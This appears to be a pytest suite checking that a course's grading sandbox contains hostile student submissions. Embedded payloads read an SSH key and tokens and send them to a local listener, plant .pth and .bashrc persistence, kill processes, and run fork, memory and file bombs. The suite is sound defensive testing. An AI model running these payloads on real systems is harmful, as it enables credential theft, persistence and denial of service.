"""The grading sandbox: a hand-in reaches nothing but its own folder (issue 20's list of escapes).

One batch of notebook-02 hand-ins, each trying one escape, is graded once by the teacher's command
(``--jobs 2``), with a fake HOME holding a fake SSH key, a token in the environment and a listener
on 127.0.0.1. What a hostile cell found, it raises, so it lands in the row's note: the note is
where each test reads whether an escape worked. Under CI (``CI=true``) a skip is a failure.
"""

import csv
import os
import socket
import sys
import threading
import time

import pytest
from browser_support import unavailable
from test_grading import _submission, sandbox_processes

from course_utils.teaching import classroom, confine, grading

NB = "02_softmax_jacobian"
TOKEN = "tok-SECRET-3f9a71"
KEY = "FAKE-SSH-KEY-7c21d0"
ROOT = classroom.ROOT


def _need_the_sandbox():
    try:
        confine.check()
    except confine.Unavailable as exc:
        unavailable(f"the grading sandbox cannot start here: {exc}", "sandbox test")


def _reads_solutions():
    return (
        "import json, course_utils\nfrom pathlib import Path\n"
        "found = []\n"
        f"for top in (Path(course_utils.__file__).parents[1], Path({str(ROOT)!r})):\n"
        "    path = top / 'notebooks' / 'solutions' / '02_softmax_jacobian.ipynb'\n"
        "    try:\n"
        "        nb = json.loads(path.read_text())\n"
        "    except OSError as exc:\n"
        "        found.append(repr(exc))\n"
        "        continue\n"
        "    for cell in nb['cells']:\n"
        "        if cell['cell_type'] == 'code' and 'widget' not in ''.join(cell['source']):\n"
        "            exec(''.join(cell['source']))\n"
        "    found.append('READ THE SOLUTIONS')\n"
        "raise RuntimeError(' | '.join(found))"
    )


def _reads_classmate(path):
    return (
        "import json, os\nseen = []\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        try:\n"
        "            seen.append(open(f'/proc/{pid}/cmdline', 'rb').read().replace(b'\\0', b' ').decode())\n"
        "        except OSError:\n"
        "            pass\n"
        "try:\n"
        f"    nb = json.load(open({str(path)!r}))\n"
        "    for cell in nb['cells']:\n"
        "        if cell['cell_type'] == 'code':\n"
        "            exec(''.join(cell['source']))\n"
        "    seen.append('READ A CLASSMATE')\n"
        "except OSError as exc:\n"
        "    seen.append(repr(exc))\n"
        "raise RuntimeError('PROCESSES: ' + ' | '.join(seen))"
    )


PROC_OF_THE_GRADER = """
import os
out = [f"ppid={os.getppid()}"]
for what in ("cmdline", "environ", "mem"):
    try:
        with open(f"/proc/{os.getppid()}/{what}", "rb") as f:
            out.append(what + "=" + f.read(200).decode(errors="replace"))
    except OSError as exc:
        out.append(what + ": " + type(exc).__name__)
raise RuntimeError(" | ".join(out))
"""

DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "3017"])
    os._exit(0)
time.sleep(0.5)
"""


def _writes_outside(fake_home):
    targets = [
        "os.path.expanduser('~/.bashrc')",
        repr(str(fake_home / ".bashrc")),
        repr(str(ROOT / "README.md")),
        repr(str(ROOT / "notebooks" / "solutions" / "99_planted.ipynb")),
        "str(Path(course_utils.__file__).parents[1] / 'README.md')",
        "str(Path(course_utils.__file__).parent / 'planted.py')",
        "os.path.join(site.getsitepackages()[0], 'zz_planted.pth')",
        "os.path.join(os.path.dirname(os.__file__), 'zz_planted.pth')",
    ]
    return (
        "import os, site, course_utils\nfrom pathlib import Path\nout = []\n"
        f"for target in [{', '.join(targets)}]:\n"
        "    try:\n"
        "        with open(target, 'a') as f:\n"
        '            f.write(\'import os; os.environ["PLANTED"] = "1"\\n\')\n'
        "        out.append('WROTE ' + target)\n"
        "    except OSError as exc:\n"
        "        out.append(f'{target}: {type(exc).__name__}')\n"
        "raise RuntimeError(' | '.join(out))"
    )


def _secrets_and_network(fake_home, port):
    return (
        "import os, socket\nfrom pathlib import Path\nloot = [repr(dict(os.environ))]\n"
        f"for path in ['~/.ssh/id_rsa', {str(fake_home / '.ssh' / 'id_rsa')!r}]:\n"
        "    try:\n"
        "        loot.append(Path(os.path.expanduser(path)).read_text())\n"
        "    except OSError as exc:\n"
        "        loot.append(type(exc).__name__)\n"
        "try:\n"
        f"    with socket.create_connection(('127.0.0.1', {port}), timeout=2) as s:\n"
        "        s.sendall(' '.join(loot).encode())\n"
        "    network = 'SENT'\n"
        "except OSError as exc:\n"
        "    network = 'network: ' + type(exc).__name__\n"
        "raise RuntimeError(network + ' ' + ' '.join(reversed(loot)))"
    )


KILLS_THE_PARENT = """
import os, signal
for target in (os.getppid(), -1):  # the parent, then every process this user may signal
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
"""

MEMORY = """
import numpy as np
try:
    big = np.ones(3 * 2**30 // 8)
    big[::4096] = 2.0
    raise RuntimeError("ALLOCATED 3 GB")
except MemoryError as exc:
    raise RuntimeError("memory: MemoryError") from None
"""

FORK_BOMB = """
import os, time
children = 0
try:
    for _ in range(100000):
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as exc:
    raise RuntimeError(f"forked {children} then {type(exc).__name__}") from None
raise RuntimeError(f"forked {children}, UNBOUNDED")
"""

FILE_BOMB = """
import os
block = b"x" * 2**20
written = 0
try:
    with open("big.bin", "wb") as f:
        for _ in range(4096):
            f.write(block)
            f.flush()
            written += 1
    raise RuntimeError(f"wrote {written} MB, UNBOUNDED")
except OSError as exc:
    raise RuntimeError(f"file: stopped at {written} MB by {type(exc).__name__}") from None
"""


class Listener:
    """A TCP server on 127.0.0.1 that keeps whatever anyone sends it."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.2)
        self.port, self.received, self.stop = self.server.getsockname()[1], [], False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                self.received.append(conn.recv(1 << 16))

    def close(self):
        self.stop = True
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def escapes(tmp_path_factory):
    _need_the_sandbox()
    tmp = tmp_path_factory.mktemp("escapes")
    home = tmp / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY)
    listener = Listener()
    readme = (ROOT / "README.md").read_bytes()
    site_files = {p: sorted(os.listdir(p)) for p in sys.path if p.endswith("site-packages")}
    subs = {"honest": _submission(tmp, "honest")}
    subs["solutions"] = _submission(tmp, "solutions", learner=True, extra=_reads_solutions())
    subs["classmate"] = _submission(tmp, "classmate", learner=True, extra=_reads_classmate(subs["honest"]))
    subs["proc"] = _submission(tmp, "proc", extra=PROC_OF_THE_GRADER)
    subs["daemon"] = _submission(tmp, "daemon", learner=True, extra=DAEMON)
    subs["writes"] = _submission(tmp, "writes", extra=_writes_outside(home))
    subs["secrets"] = _submission(tmp, "secrets", extra=_secrets_and_network(home, listener.port))
    subs["kills"] = _submission(tmp, "kills", extra=KILLS_THE_PARENT)
    subs["memory"] = _submission(tmp, "memory", extra=MEMORY)
    subs["forks"] = _submission(tmp, "forks", extra=FORK_BOMB)
    subs["file"] = _submission(tmp, "file", extra=FILE_BOMB)
    out = tmp / "grades.csv"
    saved = {k: os.environ.get(k) for k in ("HOME", "COURSE_TEST_TOKEN")}
    os.environ.update(HOME=str(home), COURSE_TEST_TOKEN=TOKEN)
    try:
        args = [NB, *map(str, subs.values()), "-o", str(out), "--jobs", "2", "--timeout", "60"]
        assert grading.main(args) == 0
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
        listener.close()
    with open(out, newline="") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    yield types_namespace(
        tmp=tmp, home=home, rows=rows, out=out, listener=listener, readme=readme, site_files=site_files
    )


def types_namespace(**kw):
    import types

    return types.SimpleNamespace(**kw)


def _total(row):
    return float(row["total (/11)"])


def test_the_honest_solution_still_scores_full_marks(escapes):
    assert _total(escapes.rows["honest"]) == 11, escapes.rows["honest"]


def test_the_solutions_cannot_be_read(escapes):
    row = escapes.rows["solutions"]
    assert _total(row) == 0 and "READ THE SOLUTIONS" not in row["note"], row["note"]
    assert "FileNotFoundError" in row["note"], row["note"]


def test_a_classmates_hand_in_cannot_be_read_nor_seen(escapes):
    row = escapes.rows["classmate"]
    assert _total(row) == 0 and "READ A CLASSMATE" not in row["note"], row["note"]
    assert "FileNotFoundError" in row["note"] and "PROCESSES:" in row["note"]
    seen = row["note"].split("PROCESSES:")[1]
    assert ".ipynb" not in seen and "pytest" not in seen and str(escapes.tmp) not in seen, seen


def test_the_graders_process_is_out_of_reach(escapes):
    note = escapes.rows["proc"]["note"]
    assert "ppid=1 " in note or "ppid=0 " in note, note  # the sandbox's own first process
    assert "pytest" not in note and TOKEN not in note and "environ=" not in note and "mem=" not in note, note
    assert _total(escapes.rows["proc"]) == 11


def test_a_daemon_dies_with_its_sandbox_and_nothing_is_left_running(escapes):
    assert _total(escapes.rows["daemon"]) == 0
    for _ in range(50):  # a killed process may take a moment to be reaped
        left = sandbox_processes()
        if not left:
            break
        time.sleep(0.1)
    assert not left, left


def test_nothing_outside_the_scratch_folder_can_be_written(escapes):
    note = escapes.rows["writes"]["note"]
    assert "WROTE /tmp/.bashrc" in note, note  # its own HOME is the scratch folder, gone afterwards
    tried = note.split("RuntimeError: ", 1)[1].split(" | ")
    assert len(tried) == 8 and all(t.endswith("Error") for t in tried[1:]), tried
    assert not (escapes.home / ".bashrc").exists()
    assert (ROOT / "README.md").read_bytes() == escapes.readme
    assert not (ROOT / "notebooks" / "solutions" / "99_planted.ipynb").exists()
    for folder, names in escapes.site_files.items():
        assert sorted(os.listdir(folder)) == names, folder
    assert "PLANTED" not in os.environ
    assert _total(escapes.rows["writes"]) == 11


def test_secrets_reach_neither_the_network_nor_the_csv_nor_the_feedback(escapes):
    note = escapes.rows["secrets"]["note"]
    assert "network: OSError" in note or "network: ConnectionRefusedError" in note, note
    assert escapes.listener.received == []
    feedback = sorted((escapes.tmp / "feedback").glob("*/*.md"))  # feedback/<student>/<notebook>.md
    assert feedback
    text = escapes.out.read_text() + "".join(p.read_text() for p in feedback)
    assert TOKEN not in text and KEY not in text


def test_killing_the_parent_costs_only_its_own_row(escapes):
    assert len(escapes.rows) == 11  # every hand-in graded: the grader lived on
    assert _total(escapes.rows["kills"]) == 11, escapes.rows["kills"]  # kill(-1) spares the sender


def test_memory_processes_and_file_size_are_limited(escapes):
    assert "memory: MemoryError" in escapes.rows["memory"]["note"], escapes.rows["memory"]["note"]
    forks = escapes.rows["forks"]["note"]
    assert "UNBOUNDED" not in forks and "forked" in forks, forks
    assert int(forks.split("forked ")[1].split()[0]) < confine.PROCESSES
    file = escapes.rows["file"]["note"]
    assert "UNBOUNDED" not in file and "stopped at" in file, file
    assert int(file.split("stopped at ")[1].split()[0]) <= confine.FILE_BYTES // 2**20
    for name in ("memory", "forks", "file"):
        assert _total(escapes.rows[name]) == 11, name  # the rest of the hand-in is still graded


# --- fail closed -------------------------------------------------------------------------------


@pytest.fixture
def fresh_check(monkeypatch):
    monkeypatch.setattr(confine, "_checked", False)


def test_without_bwrap_the_grader_refuses_and_says_what_to_install(
    tmp_path, monkeypatch, capsys, fresh_check
):
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on it
    path = _submission(tmp_path, "ada", learner=True)
    out = tmp_path / "grades.csv"
    assert grading.main([NB, str(path), "-o", str(out)]) == 3
    said = capsys.readouterr().err
    assert "bwrap was not found" in said and "apt install bubblewrap" in said and "--no-sandbox" in said
    assert not out.exists()
    with pytest.raises(confine.Unavailable):
        grading.grade(NB, [path])


def test_restricted_user_namespaces_are_explained(tmp_path, monkeypatch, capsys, fresh_check):
    fake = tmp_path / "bin" / "bwrap"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake.parent}:{os.environ['PATH']}")
    path = _submission(tmp_path, "ada", learner=True)
    assert grading.main([NB, str(path), "-o", str(tmp_path / "grades.csv")]) == 3
    said = capsys.readouterr().err
    assert "setting up uid map: Permission denied" in said
    assert "apparmor_restrict_unprivileged_userns" in said and "/etc/apparmor.d/bwrap" in said


def test_no_sandbox_grades_and_says_so_in_every_row(tmp_path, monkeypatch, fresh_check):
    monkeypatch.setenv("PATH", str(tmp_path))
    paths = [_submission(tmp_path, "ada", learner=True), _submission(tmp_path, "bo")]
    out = tmp_path / "grades.csv"
    assert grading.main([NB, *map(str, paths), "-o", str(out), "--no-sandbox", "--jobs", "1"]) == 0
    with open(out, newline="") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    assert all(r["note"].startswith("graded WITHOUT the sandbox") for r in rows.values()), rows
    assert rows["bo"]["total (/11)"] == "11"
    assert (
        "graded WITHOUT the sandbox" in (tmp_path / "feedback" / "ada" / "02_softmax_jacobian.md").read_text()
    )
